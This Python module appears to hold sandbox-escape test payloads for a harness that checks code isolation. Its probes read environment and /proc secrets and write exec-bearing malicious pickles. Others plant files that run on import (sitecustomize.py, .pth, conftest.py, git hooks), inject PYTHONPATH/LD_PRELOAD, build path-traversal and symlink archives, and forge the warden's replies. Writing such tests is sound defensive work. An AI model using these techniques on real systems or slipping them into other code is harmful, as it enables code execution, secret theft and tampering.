"""What only Python can try: on whoever started it, on whoever reads its results, on the next program."""

from __future__ import annotations

import contextlib
import gc
import io
import os
import pickle
import subprocess
import sys
import tarfile
import zipfile

from payloads.attempt import Outside, escaped, payload, refused


@payload()
def reads_the_environment(out: Outside) -> None:
    print(dict(os.environ), sys.argv[0], sys.path)
    for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            print(file.read())


@payload()
def walks_frames_and_objects(out: Outside) -> None:
    """Whatever a sandbox within the same interpreter would have hidden."""
    frame = sys._getframe()
    while frame is not None:
        print({name: repr(value)[:200] for name, value in frame.f_globals.items() if name != "__builtins__"})
        frame = frame.f_back
    print([repr(o)[:100] for o in gc.get_objects() if isinstance(o, str | bytes | dict)][:500])
    print([c.__name__ for c in ().__class__.__base__.__subclasses__()])
    if any(name.startswith("harness") for name in sys.modules):
        escaped("shares an interpreter with the harness")


class _Evil:
    def __init__(self, note: str) -> None:
        self.note = note

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({self.note!r}, 'w').write('was here')",)


@payload()
def a_pickle_as_a_result(out: Outside) -> None:
    for name in ("result.pkl", "outcome.pickle", "cache.joblib", "frame.npy"):
        with open(name, "wb") as file:
            file.write(pickle.dumps(_Evil(out.note)))
    sys.stdout.buffer.write(pickle.dumps(_Evil(out.note)))


@payload()
def files_that_run_on_import(out: Outside) -> None:
    """Names that an interpreter, a test runner or a shell would run if they came to lie in the wrong folder."""
    code = f"open({out.note!r}, 'w').write('was here')\n"
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "conftest.py", "os.py", "__init__.py", "setup.py"):
        with open(name, "w") as file:
            file.write(f"import os; {code}" if name.endswith(".pth") else code)
    for name in (".bashrc", ".pythonrc", "pytest.ini", "Makefile", ".git/hooks/post-checkout", ".env"):
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        with open(name, "w") as file:
            file.write(code)


@payload()
def hooks_for_the_next_interpreter(out: Outside) -> None:
    """A child whose imports are all replaced is in the same sandbox."""
    with open("sitecustomize.py", "w") as file:
        file.write("import sys\nclass F:\n def find_spec(self, *a): return None\nsys.meta_path.insert(0, F())\n")
    code = f"open({out.secret!r}).read()"
    for variables in (
        {"PYTHONPATH": "/work"},
        {"PYTHONSTARTUP": f"{os.getcwd()}/sitecustomize.py"},
        {"LD_PRELOAD": f"{os.getcwd()}/x.so"},
    ):
        done = subprocess.run(
            [sys.executable, "-c", code], env={**os.environ, **variables}, capture_output=True, check=False
        )
        if done.returncode == 0:
            escaped("a child read the secret")


@payload()
def archives_that_climb(out: Outside) -> None:
    """Members with paths that leave the folder of whoever unpacks them."""
    with tarfile.open("result.tar", "w") as archive:
        for name in ("../" * 12 + out.note.lstrip("/"), out.note, "a/../../../" + out.note):
            entry = tarfile.TarInfo(name)
            entry.size = 8
            archive.addfile(entry, io.BytesIO(b"was here"))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, out.folder
        archive.addfile(link)
        entry = tarfile.TarInfo("link/new")
        entry.size = 8
        archive.addfile(entry, io.BytesIO(b"was here"))
    with zipfile.ZipFile("result.zip", "w") as zipped:
        zipped.writestr("../" * 12 + out.note.lstrip("/"), "was here")
    for path in ("../up.txt", "a/../../up.txt", f"{os.getcwd()}/../up.txt"):
        refused(path, lambda path=path: open(path, "w"))


@payload()
def imitates_the_warden(out: Outside) -> None:
    """Writes what a warden would answer on every descriptor there is."""
    import json
    import struct

    answer = json.dumps(['{"failed": "", "exit_code": 0}', [["/stdout", 4]]]).encode()
    message = struct.pack("=Q", len(answer)) + answer + b"fake" + struct.pack("=d", 0.0)
    for number in range(64):
        with contextlib.suppress(OSError):
            os.write(number, message)
    os._exit(7)


@payload()
def speaks_after_its_end(out: Outside) -> None:
    """Threads, finalisers and children that go on when the program has ended."""
    import atexit
    import threading
    import time

    atexit.register(lambda: [time.sleep(0.1), print("late")])
    threading.Thread(target=lambda: time.sleep(60), daemon=True).start()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.1)
            with contextlib.suppress(OSError):
                os.write(1, b"later\n")
        os._exit(0)


@payload()
def no_interpreter_left(out: Outside) -> None:
    """Ends in the middle of everything."""
    import ctypes

    with open("half", "w") as file:
        file.write("x" * 10_000)
        file.flush()
        ctypes.memset(0, 0, 1)
